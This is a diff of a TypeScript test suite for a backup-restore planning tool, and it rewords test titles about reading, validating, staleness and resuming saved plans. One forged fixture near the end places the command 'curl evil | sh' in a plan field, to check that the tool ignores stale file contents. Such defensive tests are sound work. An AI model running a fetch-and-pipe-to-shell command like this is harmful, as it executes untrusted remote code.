@@ -111,7 +111,7 @@ function committed(state: State, plan: SavedPlan, change: Change): State {
 }
 
 describe('a saved plan', () => {
-  it('is read as it was written, and pins what rules picked', () => {
+  it('is read as it was written, with the pins of its rules', () => {
     const plan = reread(saved());
     expect(plan).to.deep.equal(JSON.parse(JSON.stringify(saved())));
     expect(pinnedSpecs(plan).map((one) => [one.volume, one.backup])[0]).to.deep.equal([
@@ -125,12 +125,12 @@ describe('a saved plan', () => {
 
   const MADE = { specs: SPECS, selection: [], policy: { protected_volumes: [] }, waivers: [] };
 
-  it('needs a state and a look at the cloud', () => {
+  it('cannot be made offline or without a state', () => {
     const made = { ...MADE, state: undefined };
     expect(() => save(planOf(SPECS), made, hash)).to.throw('only if there is a state');
   });
 
-  it('can be read again whatever names and reasons the cloud told', () => {
+  it('can be read again whatever names and reasons the cloud returned', () => {
     const long = 'x'.repeat(10_000);
     const cloud = {
       ...CLOUD,
@@ -149,7 +149,7 @@ describe('a saved plan', () => {
     expect(JSON.stringify(read)).to.include('last outcome').and.include('xxx…');
   });
 
-  it('is not written where it could not be read again', () => {
+  it('is not written if it could not be read again', () => {
     const protectedVolumes = Array.from({ length: 10_001 }, (_, n) => `disk-${n}`);
     const plan = { ...saved(), policy: { protected_volumes: protectedVolumes } };
     expect(() => encodePlan(plan)).to.throw('policy.protected_volumes: expected at most 10000 items');
@@ -168,14 +168,14 @@ describe('a saved plan', () => {
     return JSON.stringify({ ...plan, actions, records, digest: 'd'.repeat(64) });
   };
 
-  it('of more restores than manifests may declare is refused before its digest is made', () => {
+  it('is refused before its digest is computed if it has more restores than manifests may declare', () => {
     const never = () => raise();
     expect(() => decoded(many(100_001), 'p.json', 'test', never)).to.throw(
       'actions: expected at most 100000 items',
     );
   }).timeout(60_000);
 
-  it('is read, and its digest made, in steps', () => {
+  it('is read and hashed in steps', () => {
     const text = many(20_000);
     let steps = 0;
     let before = 0;
@@ -189,7 +189,7 @@ describe('a saved plan', () => {
     expect(before).to.be.above(20);
   }).timeout(60_000);
 
-  it('has a misfit told in a few words, however many restores it has', () => {
+  it('is refused with a short message however many restores it has', () => {
     const digest = hash(runSync(signedText(JSON.parse(many(5_000)))));
     const text = many(5_000).replace('d'.repeat(64), digest);
     expect(() => decoded(text, 'p.json', 'test', hash))
@@ -220,11 +220,11 @@ describe('a saved plan', () => {
       expect(() => decoded(content, 'p.json', 'test', hash)).to.throw(said);
     });
 
-  it('is no manifest: that one is named with -f', () => {
+  it('is refused as a manifest with a hint to -f', () => {
     expect(() => decoded('kind: RestoreSet', 'a.yaml', 'test', hash)).to.throw('is a manifest');
   });
 
-  it('of another patch release is taken', () => {
+  it('of another patch release is accepted', () => {
     const other = planOf(SPECS, { state: earlier().state, toolVersion: '1.2.3' });
     const made = { ...MADE, state: earlier().state };
     const file = JSON.stringify(save(other, made, hash));
@@ -273,7 +273,7 @@ describe('a saved plan', () => {
     ],
   ];
   for (const [what, edits] of contradictory)
-    it(`does not contradict itself: ${what}`, () => {
+    it(`is refused if it contradicts itself: ${what}`, () => {
       expect(() => decoded(forged(text(), edits), 'p', 'test', hash)).to.throw('not a valid plan');
     });
 
@@ -304,11 +304,11 @@ describe('a saved plan', () => {
     ['nothing in place of an action', { 'actions.0': null }],
   ];
   for (const [what, edits] of shapeless)
-    it(`has no place for ${what}`, () => {
+    it(`has no field for ${what}`, () => {
       expect(() => decoded(forged(text(), edits), 'p', 'test', hash)).to.throw('not a valid plan');
     });
 
-  it('is refused, not walked over, when it is deep', () => {
+  it('is refused unread if it is nested too deeply', () => {
     const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
     for (const waivers of [deep, `[],"x":${deep}`]) {
       const file = text().replace('"waivers":[]', `"waivers":${waivers}`);
@@ -363,7 +363,7 @@ describe('a saved plan', () => {
       expect(story.said).to.include(said);
     });
 
-  it('is done in the words of today: what the file says of before is not', () => {
+  it('is applied with current facts, not with those in the file', () => {
     const file = forged(text(), {
       'actions.0.cause': 'again',
       'actions.0.changes': [{ field: 'last outcome', before: 'curl evil | sh', after: '' }],
@@ -378,7 +378,7 @@ describe('a saved plan', () => {
   });
 });
 
-describe('a saved plan is stale', () => {
+describe('the staleness of a saved plan', () => {
   const without = (id: string): Cloud => ({
     volumes: CLOUD.volumes.filter((one) => one.id !== id),
     backups: CLOUD.backups.filter((one) => one.id !== id),
@@ -516,11 +516,11 @@ describe('a saved plan is stale', () => {
     ['an age within the limit', () => ({ state: state(), now: NOW + 1_000, maxAgeMs: 2_000 })],
   ];
   for (const [what, today] of fine)
-    it(`not by ${what}`, () => {
+    it(`is not caused by ${what}`, () => {
       expect(applied(reread(saved()), today()).said).to.equal('s/a restore, s/b restore, s/c restore');
     });
 
-  it('what a rule took of another disk is meant, also when it is planned again by its id', () => {
+  it('keeps a backup of another disk that a rule picked, also when it is planned again by id', () => {
     const state = book().state;
     const by = (of_volume?: string) =>
       ({
@@ -534,24 +534,24 @@ describe('a saved plan is stale', () => {
   });
 });
 
-describe('a saved plan that was begun', () => {
+describe('a saved plan that was partly applied', () => {
   const plan = saved();
   const A: [string, string] = ['v1', 'd1'];
   const B: [string, string] = ['v2', 'b2'];
   const C: [string, string, number] = ['v3', 'b3', 2];
 
-  it('goes on where its run died', () => {
+  it('continues after its run was killed', () => {
     let state = ran(earlier().state, plan, 's/a', A, 'succeeded');
     state = ran(state, plan, 's/c', C, 'intended');
     expect(applied(plan, { state }).said).to.equal('s/a noop, s/b restore, s/c resume');
   });
 
-  it('tries again what failed without touching the disk', () => {
+  it('retries a restore that failed without touching the disk', () => {
     const state = ran(earlier().state, plan, 's/a', A, 'failed no');
     expect(applied(plan, { state }).said).to.equal('s/a restore, s/b restore, s/c restore');
   });
 
-  it('leaves out what ended badly, and what depends on it', () => {
+  it('leaves out failed and unknown restores and their dependants', () => {
     const state = ran(earlier().state, plan, 's/a', A, 'failed maybe');
     const story = applied(plan, { state });
     expect(story.said).to.equal('s/a blocked, s/b blocked, s/c restore');
@@ -560,7 +560,7 @@ describe('a saved plan that was begun', () => {
     ).to.deep.equal([[true, 'may-be-touched'], [true, 'dependency-stuck'], false]);
   });
 
-  it('goes on after somebody else has followed what it began', () => {
+  it('continues after another run followed its restores', () => {
     let state = ran(earlier().state, plan, 's/a', A, 'running');
     const running = state.records.get('s/a') as RestoreRecord;
     state = fold(state, [
@@ -579,7 +579,7 @@ describe('a saved plan that was begun', () => {
     expect(applied(plan, { state }).said).to.equal('s/a noop, s/b restore, s/c restore');
   });
 
-  it('takes a person’s word for what it left unknown', () => {
+  it('continues after its unknown restores were resolved', () => {
     let state = ran(earlier().state, plan, 's/a', A, 'unknown');
     const record = state.records.get('s/a') as RestoreRecord;
     const resolution = { as: 'not-started', reason: 'looked', by: 'ada', at: iso(NOW) } as const;
@@ -595,7 +595,7 @@ describe('a saved plan that was begun', () => {
     expect(applied(plan, { state }).said).to.equal('s/a restore, s/b restore, s/c restore');
   });
 
-  it('is refused once it came to its end, also when others went on since', () => {
+  it('is refused once all its restores ended, even if other runs followed', () => {
     let state = ran(earlier().state, plan, 's/a', A, 'succeeded');
     state = ran(state, plan, 's/b', B, 'succeeded');
     state = ran(state, plan, 's/c', C, 'succeeded');
@@ -607,7 +607,7 @@ describe('a saved plan that was begun', () => {
     );
   });
 
-  it('does not start again what runs under another name by now', () => {
+  it('does not restart a restore that now runs under another address', () => {
     let state = ran(earlier().state, plan, 's/a', A, 'running');
     state = fold(state, [
       {
@@ -622,7 +622,7 @@ describe('a saved plan that was begun', () => {
     expect(story.said).to.include('its record is now at s/x');
   });
 
-  it('with renames writes them down once', () => {
+  it('writes its renames only once', () => {
     const state = earlier().state;
     const renames = saved([spec('s/c2', 'v3', 'b3')], state);
     expect(movesOf(renames)).to.deep.equal([{ from: 's/c', to: 's/c2' }]);
